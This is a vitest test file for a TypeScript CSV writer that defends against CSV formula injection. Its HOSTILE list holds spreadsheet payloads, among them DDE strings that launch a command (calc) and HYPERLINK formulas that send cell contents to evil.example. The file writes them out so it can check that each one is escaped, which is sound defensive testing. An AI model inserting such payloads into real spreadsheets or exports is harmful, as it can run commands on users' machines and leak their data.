/**
 * The one CSV writer (lib/core/csv/format-csv.ts) against hostile cells (OWASP CSV injection):
 * anything a spreadsheet would run as a formula is written as text, negative numbers (as numbers
 * or as plain-number text) stay numbers, and RFC 4180 quoting holds. The export paths that use it
 * are fed the same strings in tests/integration/security/csv-exports.test.ts.
 */
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, formatCsv, isFormulaLike } from '../../../lib/core/csv/format-csv';

/** Strings that Excel, LibreOffice or Google Sheets evaluate when they open a CSV. */
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '-HYPERLINK("http://evil.example")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\uff1d1+1',
  '\uff0bSUM(A1)',
  '+',
  '-',
];

describe('csvCell: formula neutralisation', () => {
  it.each(HOSTILE)('writes %j as text (leading apostrophe)', (s) => {
    const cell = csvCell(s);
    const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
    expect(unquoted.startsWith("'"), cell).toBe(true);
    expect(unquoted.slice(1)).toBe(s);
  });

  it('keeps numbers numbers: negative, exponent, and plain-number text (a negative number is data)', () => {
    expect(csvCell(-0.5)).toBe('-0.5');
    expect(csvCell(-1e-7)).toBe('-1e-7');
    expect(csvCell('-0.5')).toBe('-0.5');
    expect(csvCell('-0.500')).toBe('-0.500');
    expect(csvCell('-12')).toBe('-12');
    expect(csvCell('-1.5e-3')).toBe('-1.5e-3');
    expect(csvCell('1.25')).toBe('1.25');
    expect(isFormulaLike('-0.5')).toBe(false);
    // but not text that merely starts like one
    expect(csvCell('-0.5+A1')).toBe("'-0.5+A1");
    expect(csvCell('-1-1')).toBe("'-1-1");
    expect(csvCell('+1')).toBe("'+1");
  });

  it('writes missing and non-finite values as empty cells; dates as ISO UTC; objects as JSON', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(Number.POSITIVE_INFINITY)).toBe('');
    expect(csvCell(new Date(Date.UTC(2026, 0, 2, 3, 4, 5)))).toBe('2026-01-02T03:04:05.000Z');
    expect(csvCell(12n)).toBe('12');
    expect(csvCell(true)).toBe('true');
    expect(csvCell({ to: '=EVIL()' })).toBe('"{""to"":""=EVIL()""}"');
  });

  it('leaves ordinary text alone, a formula sign inside text included', () => {
    expect(csvCell('a = b')).toBe('a = b');
    expect(csvCell('GTV 30%')).toBe('GTV 30%');
    expect(csvCell('P-4F2A9C')).toBe('P-4F2A9C');
  });

  it('quotes commas, quotes and line breaks (RFC 4180), after neutralising', () => {
    expect(csvCell('a, "b"\nc')).toBe('"a, ""b""\nc"');
    expect(csvCell('=A1,B1')).toBe(`"'=A1,B1"`);
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
  });

  it('lines end in CRLF; a table is header plus rows', () => {
    expect(csvLine(['a', -1, null, '=x'])).toBe("a,-1,,'=x\r\n");
    expect(
      formatCsv(
        ['h1', 'h2'],
        [
          [1, '@x'],
          ['-0.5', '-x'],
        ],
      ),
    ).toBe("h1,h2\r\n1,'@x\r\n-0.5,'-x\r\n");
  });
});
